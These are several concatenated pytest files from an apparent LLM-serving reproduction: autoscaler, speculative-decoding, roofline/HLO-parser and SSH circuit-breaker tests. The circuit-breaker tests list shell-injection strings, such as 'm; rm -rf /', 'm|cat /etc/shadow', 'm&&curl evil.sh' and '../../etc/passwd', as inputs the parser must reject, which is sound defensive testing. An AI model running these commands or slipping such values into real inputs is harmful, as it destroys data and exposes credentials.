    e = sched.table.entries("m")[0]
    sl.fail_node(e.node)
    pump(clock, sched, 60)
    es = [x for x in sched.table.entries("m") if x.ready]
    assert len(es) == 1 and es[0].job_id != e.job_id


def test_readiness_requires_load_time():
    clock, sl, sched, spec = mk()
    sched.tick()
    pump(clock, sched, 10)          # < load_time (30s): still warming
    assert not any(e.ready for e in sched.table.entries("m"))
    pump(clock, sched, 40)
    assert all(e.ready for e in sched.table.entries("m"))


def test_scale_up_on_load():
    clock, sl, sched, spec = mk(scale_up_per_instance=2.0, max_instances=4,
                                window_s=30.0)
    pump(clock, sched, 60)
    for _ in range(10):             # 10 concurrent requests on 1 instance
        sched.request_begin("m")
    pump(clock, sched, 40)
    assert len(sched.table.entries("m")) > 1


def test_scale_up_capped_at_max_instances():
    clock, sl, sched, spec = mk(scale_up_per_instance=0.5, max_instances=3,
                                window_s=30.0)
    pump(clock, sched, 60)
    for _ in range(50):
        sched.request_begin("m")
    pump(clock, sched, 300)
    assert len([e for e in sched.table.entries("m") if not e.expiring]) <= 3


def test_scale_down_marks_expiring_and_lets_jobs_expire():
    clock, sl, sched, spec = mk(
        scale_up_per_instance=2.0, scale_down_per_instance=1.0,
        max_instances=4, window_s=30.0, time_limit=120.0)
    pump(clock, sched, 60)
    for _ in range(10):
        sched.request_begin("m")
    pump(clock, sched, 60)
    n_hot = len(sched.table.entries("m"))
    assert n_hot > 1
    for _ in range(10):
        sched.request_end("m")
    pump(clock, sched, 60)          # idle -> mark expiring
    assert any(e.expiring for e in sched.table.entries("m"))
    pump(clock, sched, 200)         # time limits pass; not resubmitted
    left = [e for e in sched.table.entries("m") if not e.expiring]
    assert len(left) == spec.min_instances


def test_ports_unique_per_node():
    clock, sl, sched, spec = mk(scale_up_per_instance=0.5, max_instances=4)
    pump(clock, sched, 60)
    for _ in range(40):
        sched.request_begin("m")
    pump(clock, sched, 300)
    es = sched.table.entries("m")
    assert len({(e.node, e.port) for e in es}) == len(es)


def test_lock_file_single_instance():
    path = tempfile.mktemp()
    l1, l2 = FileLock(path), FileLock(path)
    assert l1.acquire()
    assert not l2.acquire()
    l1.release()
    assert l2.acquire()
    l2.release()
    assert not os.path.exists(path)


def test_tick_skipped_under_lock_contention():
    clock, sl, sched, spec = mk()
    other = FileLock(sched._lock_path)
    assert other.acquire()
    sched.tick()
    assert sched.ticks == 0
    assert sched.metrics.counter("scheduler_lock_contended").value == 1
    other.release()
    sched.tick()
    assert sched.ticks == 1


def test_load_tracker_window_average():
    clock = SimClock()
    lt = LoadTracker(clock, window_s=10.0)
    lt.begin()
    clock.run_for(10.0)
    assert lt.average() == pytest.approx(1.0)
    lt.begin()                       # 2 concurrent for next 5s
    clock.run_for(5.0)
    assert lt.average() == pytest.approx(1.5)
    lt.end()
    lt.end()
    clock.run_for(10.0)
    assert lt.average() == pytest.approx(0.0)


def test_scale_up_reclaims_expiring_before_submitting():
    """A burst right after a scale-down must un-mark still-running
    instances instead of submitting new cold jobs (instance-leak bug)."""
    clock, sl, sched, spec = mk(
        scale_up_per_instance=2.0, scale_down_per_instance=1.0,
        max_instances=4, window_s=30.0, time_limit=3600.0)
    pump(clock, sched, 60)
    for _ in range(10):
        sched.request_begin("m")
    pump(clock, sched, 120)
    for _ in range(10):
        sched.request_end("m")
    pump(clock, sched, 60)         # idle: instances marked expiring
    assert any(e.expiring for e in sched.table.entries("m"))
    for _ in range(10):            # second burst
        sched.request_begin("m")
    pump(clock, sched, 120)
    es = sched.table.entries("m")
    assert len(es) <= spec.max_instances, \
        f"instance leak: {len(es)} > max {spec.max_instances}"
    assert sched.metrics.counter("scale_up_reclaims").value > 0


# ---------------------------------------------------------------------------
# beyond-paper: scale-to-zero (§7.1.3) + day/night windows
# ---------------------------------------------------------------------------

def test_scale_to_zero_when_idle():
    clock, sl, sched, spec = mk(min_instances=0, time_limit=120.0,
                                scale_down_per_instance=1.0)
    pump(clock, sched, 60)           # initial instance? min=0 -> none
    assert sched.table.entries("m") == []


def test_scale_from_zero_via_queue():
    from repro.slurmlite import Request
    clock, sl, sched, spec = mk(min_instances=0, time_limit=600.0)
    pump(clock, sched, 30)
    assert not sched.table.entries("m")

    got = []
    req = Request(request_id=1, model="m", prompt_tokens=8,
                  max_new_tokens=4)
    sched.request_begin("m")
    assert sched.enqueue("m", req, got.append)
    pump(clock, sched, 120)          # cold start (load_time=30) + flush
    assert got and got[0].status == 200
    assert sched.metrics.counter("requests_dequeued").value == 1
    # an instance now exists (scaled from zero)
    assert any(e.ready for e in sched.table.entries("m"))


def test_queue_timeout_returns_503():
    from repro.slurmlite import Request
    clock, sl, sched, spec = mk(min_instances=0, queue_timeout_s=20.0)
    # make the cluster unable to start anything
    for n in sl.nodes.values():
        n.drained = True
    got = []
    sched.request_begin("m")
    sched.enqueue("m", Request(request_id=1, model="m", prompt_tokens=1,
                               max_new_tokens=1), got.append)
    pump(clock, sched, 60)
    assert got and got[0].status == 503
    assert sched.metrics.counter("requests_queue_expired").value == 1
    assert sched.pending["m"] == []


def test_queue_timeout_ends_load_exactly_once():
    """Regression: the timeout path used to call request_end itself AND
    invoke done() (whose cloud-interface closure also calls request_end),
    double-decrementing LoadTracker concurrency below zero and starving
    autoscaling right after a timed-out cold start."""
    from repro.slurmlite import Request
    clock, sl, sched, spec = mk(min_instances=0, queue_timeout_s=20.0)
    for n in sl.nodes.values():
        n.drained = True
    got = []

    def done(resp):                  # the cloud interface's pairing
        sched.request_end("m")
        got.append(resp)

    sched.request_begin("m")
    sched.enqueue("m", Request(request_id=1, model="m", prompt_tokens=1,
                               max_new_tokens=1), done)
    pump(clock, sched, 60)
    assert got and got[0].status == 503
    assert sched.load["m"].current == 0


def test_queue_bounded():
    from repro.slurmlite import Request
    clock, sl, sched, spec = mk(min_instances=0, max_queue=2)
    for i in range(2):
        assert sched.enqueue("m", Request(request_id=i, model="m",
                                          prompt_tokens=1,
                                          max_new_tokens=1), lambda r: None)
    assert not sched.enqueue("m", Request(request_id=9, model="m",
                                          prompt_tokens=1,
                                          max_new_tokens=1), lambda r: None)


def test_active_hours_window_scales_to_zero_at_night():
    """The paper's §7.1.3 cron-based day/night sharing as a config knob."""
    clock, sl, sched, spec = mk(min_instances=1, time_limit=1800.0,
                                active_hours=(8.0, 18.0))
    # sim starts at t=0 == 00:00 -> outside window
    pump(clock, sched, 600)
    assert all(e.expiring for e in sched.table.entries("m"))
    # advance to 09:00
    clock.run_until(9 * 3600)
    pump(clock, sched, 600)
    assert [e for e in sched.table.entries("m") if not e.expiring]
    # advance to 19:00 -> outside again
    clock.run_until(19 * 3600)
    pump(clock, sched, 3600)
    active = [e for e in sched.table.entries("m") if not e.expiring]
    assert not active


def test_scale_down_expires_coldest_not_newest():
    """Scale-down must expire the replica with the fewest published
    prefix-cache keys — not blindly the newest, which is exactly the
    replica the affinity router concentrates fresh traffic on after a
    scale-up."""
    clock, sl, sched, spec = mk(scale_up_per_instance=2.0,
                                scale_down_per_instance=1.0,
                                max_instances=4, window_s=30.0)
    pump(clock, sched, 60)
    for _ in range(10):
        sched.request_begin("m")
    pump(clock, sched, 90)                       # scale up
    ready = [e for e in sched.table.entries("m")
             if e.ready and not e.expiring]
    assert len(ready) >= 2
    # warm the NEWEST replica — the old mark-the-newest policy's victim
    warm = max(ready, key=lambda e: e.job_id)
    inst = sched.registry.lookup(warm.node, warm.port)
    inst.cached_block_keys = lambda: [f"k{i:02d}" for i in range(32)]
    sched.tick()                                 # heartbeat the warmth
    assert sched.prefix_index.published_keys(warm.job_id) == 32
    for _ in range(10):
        sched.request_end("m")
    pump(clock, sched, 60)                       # idle -> scale down
    marked = [e for e in sched.table.entries("m") if e.expiring]
    assert marked, "scale-down should have marked something"
    assert not sched.table.get(warm.job_id).expiring, \
        "the warm replica must not be the scale-down victim"


def test_scale_down_ties_break_on_outstanding():
    """All replicas equally cold: the one with in-flight requests is
    warmer than an idle one and must survive the mark."""
    clock, sl, sched, spec = mk(scale_up_per_instance=2.0,
                                scale_down_per_instance=1.0,
                                max_instances=4, window_s=30.0)
    pump(clock, sched, 60)
    for _ in range(10):
        sched.request_begin("m")
    pump(clock, sched, 90)
    ready = [e for e in sched.table.entries("m")
             if e.ready and not e.expiring]
    assert len(ready) >= 2
    busy = max(ready, key=lambda e: e.job_id)
    sched.router.begin(busy.job_id)              # 1 in-flight request
    for _ in range(10):
        sched.request_end("m")
    pump(clock, sched, 60)
    assert any(e.expiring for e in sched.table.entries("m"))
    assert not sched.table.get(busy.job_id).expiring
    sched.router.end(busy.job_id)


def test_reap_retires_router_outstanding():
    """A crashed replica's in-flight count must be retired with its
    prefix-index keys, or the least-outstanding fallback and the skew
    guard stay biased forever."""
    clock, sl, sched, spec = mk()
    pump(clock, sched, 60)
    e = sched.table.entries("m")[0]
    sched.router.begin(e.job_id)
    sched.router.begin(e.job_id)
    sl.fail_node(e.node)
    pump(clock, sched, 60)
    assert e.job_id not in sched.router.outstanding


def test_ttl_expiry_retires_router_outstanding():
    """A replica that goes silent (hung job) ages out of the prefix index
    after the TTL; its in-flight count must be retired at that moment —
    requests routed to a hung replica never complete."""
    clock, sl, sched, spec = mk()
    pump(clock, sched, 60)
    e = sched.table.entries("m")[0]
    assert e.ready
    sched.tick()
    assert sched.prefix_index.num_instances == 1
    sched.router.begin(e.job_id)
    inst = sched.registry.lookup(e.node, e.port)
    inst.probe = lambda: 503                     # hung: heartbeats stop
    pump(clock, sched, 60)                       # > index TTL (30 s)
    assert sched.prefix_index.num_instances == 0
    assert e.job_id not in sched.router.outstanding, \
        "silent replica's in-flight count must be retired with its keys"
    assert not e.ready, \
        "a TTL-expired replica must re-probe before taking new traffic"
    # recovery: probe answers again -> re-readied, republished
    inst.probe = lambda: 200
    pump(clock, sched, 20)
    assert e.ready
    assert sched.prefix_index.num_instances == 1


def test_heartbeat_publishes_swap_headroom():
    """READY instances publish their free host-swap-pool blocks on the
    same heartbeat as their prefix-cache keys; the router keeps them as
    the swap-aware tiebreak, and retires them with the instance."""
    clock, sl, sched, spec = mk()
    pump(clock, sched, 60)
    e = sched.table.entries("m")[0]
    assert e.ready
    inst = sched.registry.lookup(e.node, e.port)
    inst.backend.swap_headroom = lambda: 24
    sched.tick()
    assert sched.router.headroom[e.job_id] == 24
    # reap clears it alongside the prefix-index retraction
    sl.fail_node(e.node)
    pump(clock, sched, 60)
    assert e.job_id not in sched.router.headroom


def test_backends_without_swap_report_zero_headroom():
    clock, sl, sched, spec = mk()
    pump(clock, sched, 60)
    e = sched.table.entries("m")[0]
    inst = sched.registry.lookup(e.node, e.port)
    assert inst.swap_headroom() == 0           # LatencyModelBackend: none


def test_heartbeat_carries_replica_geometry():
    """A READY instance's parallelism geometry (tp degree, sharded cache
    leaves) rides the heartbeat into its routing-table entry, so routers
    can compare per-device KV headroom across heterogeneous replicas.
    Backends without an engine report {} and the entry stays tp=1."""
    clock, sl, sched, spec = mk()
    pump(clock, sched, 60)
    e = sched.table.entries("m")[0]
    assert e.ready
    assert e.geometry == {} and e.tp == 1      # LatencyModelBackend: none
    inst = sched.registry.lookup(e.node, e.port)
    inst.backend.replica_geometry = lambda: {
        "tp": 2, "sharded_leaves": [
            {"path": "blocks/s0/k_pool", "shards": 2,
             "shard_dim": "kv_heads"}]}
    sched.tick()
    assert e.tp == 2
    assert e.geometry["sharded_leaves"][0]["shards"] == 2
    # a not-READY instance publishes nothing; the last geometry sticks
    inst.probe = lambda: 503
    sched.tick()
    assert e.tp == 2
