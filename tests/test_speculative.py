"""Self-speculative decoding: the jitted verify path must be bit-identical
to plain decoding (greedy AND sampled — verification is exact, not
approximate), compose with preemption and sequence-group forks, and the
/v1 API surface must carry the speculation controls, logprobs, and the
normalized error envelope on both engine paths."""
import json

import jax
import numpy as np
import pytest

from repro.configs import get_config, reduced
from repro.core.errors import ApiError, error_envelope
from repro.data.pipeline import ByteCorpus
from repro.models import param_defs
from repro.models.params import materialize
from repro.serving.api import ApiServer, ChatRequest, parse_sse
from repro.serving.engine import Engine
from repro.serving.sampling import SamplingParams
from repro.serving.speculative import NgramDraftProvider


@pytest.fixture(scope="module")
def llama():
    cfg = reduced(get_config("llama3.2-1b")).with_(
        vocab_size=ByteCorpus.vocab_size)
    params = materialize(param_defs(cfg), jax.random.key(0))
    return cfg, params


def mk_engine(llama, **kw):
    cfg, params = llama
    kw.setdefault("max_num_seqs", 3)
    kw.setdefault("max_model_len", 96)
    kw.setdefault("block_size", 8)
    return Engine(cfg, params, **kw)


# a prompt the n-gram provider can actually hit on
REP = np.array([5, 6, 7, 8, 5, 6, 7, 8, 5, 6, 7, 8, 9], np.int32)


def drive(e, prompt, sp):
    rid = e.submit(prompt, sp)
    g = e.group_of(rid)
    while not g.finished:
        e.step()
    return [(list(r.output), list(r.token_logprobs)) for r in g.requests]


# ----- bit-identical equivalence: spec-on vs spec-off vs eager -----

def test_greedy_equivalence_three_ways(llama):
    sp = SamplingParams(max_new_tokens=16)
    eager = drive(mk_engine(llama, fast_path=False), REP, sp)
    plain = drive(mk_engine(llama), REP, sp)
    spec_e = mk_engine(llama, spec_draft_len=4)
    spec = drive(spec_e, REP, sp)
    assert eager == plain == spec
    s = spec_e.spec_stats()
    assert s["drafted_tokens"] > 0 and s["accepted_tokens"] > 0
    assert 0.0 < s["acceptance_rate"] <= 1.0


def test_sampled_equivalence_with_filtering(llama):
    sp = SamplingParams(temperature=0.8, top_k=20, top_p=0.95,
                        max_new_tokens=12, seed=11)
    assert drive(mk_engine(llama), REP, sp) == \
        drive(mk_engine(llama, spec_draft_len=4), REP, sp)


def test_equivalence_under_preemption(llama):
    """A pool small enough to force preemptions mid-decode: speculation's
    block reservations must never change a token or deadlock."""
    script = [(np.arange(1, 40, dtype=np.int32), 8),
              (REP, 10),
              (np.tile(np.arange(30, 36, dtype=np.int32), 5), 12)]

    def run(**kw):
        e = mk_engine(kw.pop("llama"), num_blocks=14,
                      prefill_chunk_size=8, **kw)
        rids = [e.submit(p, SamplingParams(max_new_tokens=m))
                for p, m in script]
        while any(not e.group_of(r).finished for r in rids):
            e.step()
        return [list(e.requests[r].output) for r in rids]

    base = run(llama=llama)
    spec = run(llama=llama, spec_draft_len=4)
    assert base == spec


def test_equivalence_with_fork_groups(llama):
    sp = SamplingParams(temperature=1.0, max_new_tokens=10, n=2,
                        best_of=2, seed=3)
    assert drive(mk_engine(llama), REP, sp) == \
        drive(mk_engine(llama, spec_draft_len=3), REP, sp)


# ----- per-request controls -----

def test_per_request_opt_out(llama):
    e = mk_engine(llama, spec_draft_len=4)
    out = drive(e, REP, SamplingParams(max_new_tokens=12,
                                       speculation=False))
    assert e.spec_stats()["drafted_tokens"] == 0
    assert out == drive(mk_engine(llama), REP,
                        SamplingParams(max_new_tokens=12))


def test_per_request_draft_cap(llama):
    e = mk_engine(llama, spec_draft_len=4)
    out = drive(e, REP, SamplingParams(max_new_tokens=12,
                                       max_draft_len=1))
    # with a per-dispatch cap of 1 every accept commits at most 2 tokens
    r = next(iter(e.requests.values()))
    assert r.drafted_tokens <= len(r.output)
    assert out == drive(mk_engine(llama), REP,
                        SamplingParams(max_new_tokens=12))


def test_single_spec_executable(llama):
    e = mk_engine(llama, spec_draft_len=4)
    drive(e, REP, SamplingParams(max_new_tokens=16))
    drive(e, np.arange(1, 20, dtype=np.int32),
          SamplingParams(max_new_tokens=8))
    # one q_len=K+1 executable, however draft lengths vary per row/step
    assert e.compile_counts()["spec_decode"] == 1
    assert e.compile_counts()["decode"] == 1


# ----- the n-gram provider itself -----

def test_ngram_provider_prefers_longest_match():
    class R:
        prompt = [1, 2, 3, 9, 1, 2, 3, 4, 7]
        output = [1, 2, 3]
    # trigram [1,2,3] matched at index 4 (most recent) -> continue 4, 7
    assert NgramDraftProvider().propose(R(), 4) == [4, 7, 1, 2]


def test_ngram_provider_no_match():
    class R:
        prompt = [1, 2, 3, 4, 5]
        output = []
    assert NgramDraftProvider().propose(R(), 4) == []


# ----- wire format: envelope, logprobs, speculation usage -----

def test_error_envelope_golden():
    assert error_envelope(404, "model x not found") == {
        "error": {"message": "model x not found",
                  "type": "not_found_error",
                  "param": None, "code": 404}}
    e = ApiError(400, "max_tokens out of range", param="max_tokens")
    assert e.envelope() == {
        "error": {"message": "max_tokens out of range",
                  "type": "invalid_request_error",
                  "param": "max_tokens", "code": 400}}


def test_gateway_rejections_use_envelope():
    from repro.core.gateway import APIGateway
    from repro.slurmlite.clock import SimClock
    gw = APIGateway(SimClock())
    r = gw.handle(method="POST", path="/v1/chat/completions")
    assert r.status == 401
    body = json.loads(r.body)
    assert set(body["error"]) == {"message", "type", "param", "code"}
    assert body["error"]["type"] == "authentication_error"
    assert body["error"]["code"] == 401


@pytest.mark.parametrize("bad,param", [
    ({"speculation": "yes"}, "speculation"),
    ({"speculation": {"draft": 3}}, "speculation"),
    ({"speculation": {"max_draft_len": -2}},
     "speculation.max_draft_len"),
])
def test_speculation_field_validation(bad, param):
    body = {"messages": [{"role": "user", "content": "x"}], **bad}
    with pytest.raises(ApiError) as ei:
        ChatRequest.parse(json.dumps(body).encode())
    assert ei.value.status == 400
    assert ei.value.param == param
    assert ei.value.envelope()["error"]["type"] == "invalid_request_error"


def _server(llama, **kw):
    # concatenative decode: the join of per-token deltas is byte-equal to
    # decoding the whole sequence (what the SSE contract promises)
    from repro.serving.api import default_token_decode
    eng = mk_engine(llama, max_num_seqs=2, **kw)
    return ApiServer(eng, encode=lambda s: ByteCorpus.encode(s),
                     decode=default_token_decode,
                     model_name="tiny-llama")


def _body(**kw):
    d = {"model": "tiny-llama",
         "messages": [{"role": "user",
                       "content": "abcabcabcabcabcabcabc"}],
         "max_tokens": 8}
    d.update(kw)
    return json.dumps(d).encode()


@pytest.mark.parametrize("engine_kw", [
    {"fast_path": False},                    # eager reference loop
    {"spec_draft_len": 4},                   # jitted speculative path
], ids=["eager", "spec"])
def test_logprobs_blocking_both_paths(llama, engine_kw):
    out = _server(llama, **engine_kw).chat_completion(
        _body(logprobs=True))
    ch = out["choices"][0]
    content = ch["logprobs"]["content"]
    assert len(content) == 8
    for entry in content:
        assert set(entry) == {"token", "logprob"}
        assert entry["logprob"] <= 0.0
    assert "".join(e["token"] for e in content) == \
        ch["message"]["content"]
    # logprobs omitted -> explicit null, OpenAI-style
    out2 = _server(llama, **engine_kw).chat_completion(_body())
    assert out2["choices"][0]["logprobs"] is None


def test_logprobs_streaming_matches_blocking(llama):
    srv = _server(llama, spec_draft_len=4)
    blocking = srv.chat_completion(_body(logprobs=True))
    events = parse_sse(b"".join(
        srv.chat_completion_stream(_body(logprobs=True, stream=True))))
    deltas = [e["choices"][0] for e in events
              if e != "[DONE]" and e["choices"][0]["delta"]]
    streamed = [d["logprobs"]["content"][0]["logprob"] for d in deltas]
    assert streamed == [e["logprob"] for e in
                        blocking["choices"][0]["logprobs"]["content"]]
    assert "".join(d["delta"]["content"] for d in deltas) == \
        blocking["choices"][0]["message"]["content"]


def test_usage_carries_speculation_counters(llama):
    srv = _server(llama, spec_draft_len=4)
    out = srv.chat_completion(_body(max_tokens=16))
    u = out["usage"]
    assert u["drafted_tokens"] > 0
    assert 0 < u["accepted_tokens"] <= u["drafted_tokens"]
    assert u["acceptance_rate"] == round(
        u["accepted_tokens"] / u["drafted_tokens"], 4)
    # and the same counters reach the Prometheus surface
    text = srv.metrics_text()
    assert "engine_spec_drafted_tokens_total" in text
    assert "engine_spec_accepted_tokens_total" in text


def test_usage_speculation_zero_when_disabled(llama):
    out = _server(llama).chat_completion(
        _body(speculation={"enabled": False}))
    assert out["usage"]["drafted_tokens"] == 0
    assert out["usage"]["acceptance_rate"] == 0.0
