"""Launch layer: input-shape planning, roofline math, HLO cost parser."""
import jax.numpy as jnp
import numpy as np
import pytest

from repro.configs import get_config, list_archs
from repro.launch.hlo_costs import parse_computations, total_costs
from repro.launch.roofline import Roofline, collective_bytes, model_flops
from repro.launch.shapes import INPUT_SHAPES, auto_microbatches, plan_for


# ---------------------------------------------------------------------------
# shapes / planning
# ---------------------------------------------------------------------------

def test_every_arch_covers_every_shape_or_documents_skip():
    for arch in list_archs():
        cfg = get_config(arch)
        for sid in INPUT_SHAPES:
            variant, skip = plan_for(cfg, sid)
            assert (variant is None) != (skip is None)


def test_long_context_gets_subquadratic_variant():
    cfg, skip = plan_for(get_config("llama3.2-1b"), "long_500k")
    assert skip is None and cfg.sliding_window == 8192
    cfg, skip = plan_for(get_config("mamba2-1.3b"), "long_500k")
    assert skip is None and cfg.sliding_window is None   # attention-free
    cfg, skip = plan_for(get_config("llama3-405b"), "long_500k")
    assert cfg is None and "full-attention" in skip


def test_auto_microbatches_divides_batch():
    cfg = get_config("llama3-405b")
    for shards in (1, 8, 16):
        mb = auto_microbatches(cfg, shards, 256, 4096)
        assert 256 % mb == 0
        assert (256 // mb) % shards == 0


def test_auto_microbatches_scales_with_depth():
    deep = get_config("llama3-405b")
    shallow = get_config("llama3.2-1b")
    assert auto_microbatches(deep, 8, 256, 4096) >= \
        auto_microbatches(shallow, 8, 256, 4096)


# ---------------------------------------------------------------------------
# roofline terms
# ---------------------------------------------------------------------------

def test_roofline_dominant_term():
    r = Roofline(667e12, 1.2e12, 0.0)      # 1s compute, 1s memory
    assert r.compute_s == pytest.approx(1.0)
    assert r.memory_s == pytest.approx(1.0)
    r2 = Roofline(0, 0, 46e9 * 3)
    assert r2.dominant == "collective" and r2.collective_s == pytest.approx(3)


def test_model_flops_train_vs_decode():
    cfg = get_config("llama3.2-1b")
    tr = model_flops(cfg, INPUT_SHAPES["train_4k"], 128)
    de = model_flops(cfg, INPUT_SHAPES["decode_32k"], 128)
    n = cfg.param_counts()["active"]
    assert tr == pytest.approx(6 * n * 256 * 4096)
    assert de == pytest.approx(2 * n * 128)


def test_moe_uses_active_params():
    cfg = get_config("mixtral-8x7b")
    counts = cfg.param_counts()
    assert counts["active"] < 0.35 * counts["total"]


# ---------------------------------------------------------------------------
# HLO cost parser
# ---------------------------------------------------------------------------

HLO = """\
HloModule test

%body.1 (arg.1: (s32[], f32[8,16])) -> (s32[], f32[8,16]) {
  %arg.1 = (s32[], f32[8,16]) parameter(0)
  %iv = s32[] get-tuple-element(%arg.1), index=0
  %one = s32[] constant(1)
  %next = s32[] add(%iv, %one)
  %x = f32[8,16] get-tuple-element(%arg.1), index=1
  %w = f32[16,16] constant(0)
  %dot.1 = f32[8,16] dot(%x, %w), lhs_contracting_dims={1}, rhs_contracting_dims={0}
  %ar = f32[8,16] all-reduce(%dot.1), replica_groups={}
  ROOT %out = (s32[], f32[8,16]) tuple(%next, %ar)
}

%cond.1 (arg.2: (s32[], f32[8,16])) -> pred[] {
  %arg.2 = (s32[], f32[8,16]) parameter(0)
  %iv2 = s32[] get-tuple-element(%arg.2), index=0
  %limit = s32[] constant(12)
  ROOT %lt = pred[] compare(%iv2, %limit), direction=LT
}

ENTRY %main (p0: f32[8,16]) -> f32[8,16] {
  %p0 = f32[8,16] parameter(0)
  %zero = s32[] constant(0)
  %t = (s32[], f32[8,16]) tuple(%zero, %p0)
  %while.1 = (s32[], f32[8,16]) while(%t), condition=%cond.1, body=%body.1
  ROOT %res = f32[8,16] get-tuple-element(%while.1), index=1
}
"""


def test_parser_counts_dot_flops_with_trips():
    r = total_costs(HLO)
    # dot: 2 * 8*16 * 16 = 4096 flops, x12 trips
    assert r["flops"] == pytest.approx(12 * 4096)
    # all-reduce: 8*16*4 bytes * 2 (reduce+broadcast) * 12 trips
    assert r["coll"]["all-reduce"] == pytest.approx(12 * 8 * 16 * 4 * 2)
    assert r["trips"] == {"body.1": 12}


def test_parser_bytes_exclude_control_ops():
    comps = parse_computations(HLO)
    body = comps["body.1"]
    # dot (out 512B + x 512B + w 1024B) + add (12B) + all-reduce line
    assert body.bytes >= 2048
    # GTE/tuple/constant/parameter contribute nothing
    entry = comps["main"]
    assert entry.bytes == 0.0


def test_parser_wide_loop_nesting():
    nested = HLO.replace(
        "%while.1 = (s32[], f32[8,16]) while(%t), condition=%cond.1, "
        "body=%body.1",
        "%while.1 = (s32[], f32[8,16]) while(%t), condition=%cond.outer, "
        "body=%body.outer")
    nested += """
%body.outer (a: (s32[], f32[8,16])) -> (s32[], f32[8,16]) {
  %a = (s32[], f32[8,16]) parameter(0)
  %t2 = (s32[], f32[8,16]) tuple(%a)
  %inner = (s32[], f32[8,16]) while(%t2), condition=%cond.1, body=%body.1
  ROOT %o = (s32[], f32[8,16]) tuple(%inner)
}

%cond.outer (b: (s32[], f32[8,16])) -> pred[] {
  %b = (s32[], f32[8,16]) parameter(0)
  %iv3 = s32[] get-tuple-element(%b), index=0
  %lim2 = s32[] constant(48)
  ROOT %c = pred[] compare(%iv3, %lim2), direction=LT
}
"""
    r = total_costs(nested)
    # outer limit 48 steps by inner trips 12 -> 4 outer trips, 48 total
    assert r["trips"]["body.outer"] == 4
    assert r["flops"] == pytest.approx(48 * 4096)


def test_collective_bytes_regex():
    r = collective_bytes(HLO)
    assert r["counts"]["all-reduce"] == 1
    assert r["bytes"]["all-reduce"] == pytest.approx(8 * 16 * 4 * 2)


def test_optimized_ep_rules_shard_experts_wide():
    """TRAIN_RULES_EP (the §Perf winner) must put experts on pipe x data
    and the model dim on tensor, degrading gracefully when the expert
    count doesn't divide the group."""
    from jax.sharding import AbstractMesh, PartitionSpec as P

    from repro.models.params import TRAIN_RULES_EP, spec_for
    try:
        # jax >= 0.5 signature: (axis_sizes, axis_names)
        mesh = AbstractMesh((2, 8, 4, 4), ("pod", "data", "tensor", "pipe"))
    except TypeError:
        # jax 0.4.x signature: tuple of (name, size) pairs
        mesh = AbstractMesh(
            tuple(zip(("pod", "data", "tensor", "pipe"), (2, 8, 4, 4))))
    # deepseek: 160 experts % (4*8)=32 == 0 -> full EP
    s = spec_for(("experts", "embed", "mlp"), (160, 5120, 1536), mesh,
                 TRAIN_RULES_EP)
    assert s == P(("pipe", "data"), "tensor")
    # jamba: 16 experts % 32 != 0 -> degrades to pipe-only (4-way)
    s2 = spec_for(("experts", "embed", "mlp"), (16, 8192, 24576), mesh,
                  TRAIN_RULES_EP)
    assert s2 == P("pipe", "tensor")
