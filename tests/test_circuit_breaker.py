"""SSH ForceCommand circuit breaker + defensive parser (paper §5.4, §6.1.2).

The security evaluation scenarios of §6.1.2 as executable tests: a stolen
key / compromised web server can only ever reach the forced entrypoint, and
the entrypoint's parser rejects every injection shape the paper calls out.
"""
import pytest

from repro.core.circuit_breaker import (
    MAX_ARG_BYTES, MAX_BODY_BYTES, ForceCommandBoundary, ParsedRequest,
    SecurityViolation, SSHResult, validate_request)


# ---------------------------------------------------------------------------
# validate_request — the defensive parser
# ---------------------------------------------------------------------------

def test_keepalive():
    r = validate_request(["KEEPALIVE"])
    assert r.keepalive and r.method == "GET"


def test_valid_request_roundtrip():
    r = validate_request(
        "REQ POST /v1/chat/completions llama-3.1-70b STREAM USER u1".split(),
        b'{"x":1}')
    assert (r.method, r.path, r.model) == (
        "POST", "/v1/chat/completions", "llama-3.1-70b")
    assert r.stream and r.user_id == "u1" and r.body == b'{"x":1}'


@pytest.mark.parametrize("argv", [
    [],
    ["KEEPALIVE", "extra"],
    ["EXEC", "rm", "-rf", "/"],
    ["REQ"],
    ["REQ", "POST", "/v1/chat/completions"],                 # missing model
    ["REQ", "DELETE", "/v1/chat/completions", "m"],          # bad method
    ["REQ", "POST", "/etc/passwd", "m"],                     # path escape
    ["REQ", "POST", "/v1/admin", "m"],                       # not whitelisted
    ["REQ", "POST", "/v1/chat/completions", "m", "SUDO"],    # unknown arg
    ["REQ", "POST", "/v1/chat/completions", "m", "USER"],    # dangling USER
])
def test_malformed_rejected(argv):
    with pytest.raises(SecurityViolation):
        validate_request(argv)


@pytest.mark.parametrize("evil", [
    "m; rm -rf /",
    "m`id`",
    "m$(whoami)",
    "m|cat /etc/shadow",
    "m&&curl evil.sh",
    "m>out",
    "m<in",
    "m\\x",
    "m\nKEEPALIVE",
    "../../etc/passwd",
    "m\x00",
])
def test_injection_attempts_rejected(evil):
    """§6.1.2: injection attacks via request parameters must be rejected."""
    with pytest.raises(SecurityViolation):
        validate_request(["REQ", "POST", "/v1/chat/completions", evil])


def test_eval_never_reachable():
    """The parser whitelists; nothing resembling shell evaluation exists."""
    import ast
    import inspect

    import repro.core.circuit_breaker as cb
    tree = ast.parse(inspect.getsource(cb))
    calls = [n.func.id for n in ast.walk(tree)
             if isinstance(n, ast.Call) and isinstance(n.func, ast.Name)]
    assert "eval" not in calls and "exec" not in calls
    imports = [a.name for n in ast.walk(tree)
               if isinstance(n, ast.Import) for a in n.names]
    assert "subprocess" not in imports and "os" not in imports


def test_size_caps():
    with pytest.raises(SecurityViolation):
        validate_request(["REQ", "POST", "/v1/chat/completions",
                          "m" * (MAX_ARG_BYTES + 1)])
    with pytest.raises(SecurityViolation):
        validate_request(["REQ", "POST", "/v1/chat/completions", "m"],
                         b"x" * (MAX_BODY_BYTES + 1))


# ---------------------------------------------------------------------------
# ForceCommandBoundary — the circuit breaker itself
# ---------------------------------------------------------------------------

def test_forced_entrypoint_is_the_only_door():
    calls = []

    def entry(argv, stdin):
        calls.append((argv, stdin))
        return SSHResult(0, b"ok")

    b = ForceCommandBoundary(entry)
    res = b.ssh_exec("KEEPALIVE")
    assert res.exit_code == 0 and calls[-1][0] == ["KEEPALIVE"]
    # an attacker-requested command is logged as data, never executed
    res = b.ssh_exec("rm -rf / --no-preserve-root")
    assert b.original_commands[-1] == "rm -rf / --no-preserve-root"
    assert calls[-1][0] == ["rm", "-rf", "/", "--no-preserve-root"]


def test_security_violation_becomes_exit_77():
    def entry(argv, stdin):
        return SSHResult(0, validate_request(argv, stdin).path.encode())

    b = ForceCommandBoundary(entry)
